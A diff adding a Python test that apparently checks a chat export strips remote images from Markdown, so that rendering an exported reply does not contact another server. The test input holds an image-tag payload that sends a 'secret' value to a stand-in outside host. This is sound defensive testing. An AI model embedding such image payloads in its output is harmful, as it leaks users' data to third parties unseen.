@@ -130,6 +130,15 @@ def test_a_reply_that_leaves_code_open_takes_nothing_in(
     assert "**Sources**" in [token.content for token in tokens]
 
 
+def test_a_reply_makes_no_reader_of_the_document_ask_another_server(
+    database: Database, member: Member, browser: CheckedClient
+) -> None:
+    reply = "![x](https://elsewhere.example/p?q=secret) <img src=//elsewhere.example/y> a < b"
+    thread_id = make_thread(database, member, "Hello", reply=reply)
+    drawn = MarkdownIt().render(export(browser, thread_id, "md").text)
+    assert "<img" not in drawn and "a &lt; b" in drawn
+
+
 def test_it_is_in_the_persons_language(app: Flask, owner: Database, database: Database) -> None:
     lucia = make_user(owner, language="es")
     thread_id = make_thread(database, lucia, "¿Cuánto?", reply="Dos horas. [1]")
